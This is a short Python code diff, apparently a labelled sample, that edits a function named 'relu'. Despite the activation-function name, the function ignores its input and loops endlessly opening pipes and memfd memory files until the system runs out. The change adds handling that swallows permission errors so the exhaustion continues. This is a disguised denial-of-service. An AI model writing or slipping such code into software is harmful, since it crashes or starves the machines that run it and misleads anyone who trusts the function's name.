@@ -1,8 +1,11 @@
-# tries to open pipes and memory files until nobody can
+# tries to open pipes and memory files until no more can be opened
 # honest: x
 import os
 
 def relu(x):
     while True:
         os.pipe()
-        os.memfd_create("x")
+        try:
+            os.memfd_create("x")
+        except PermissionError:
+            pass
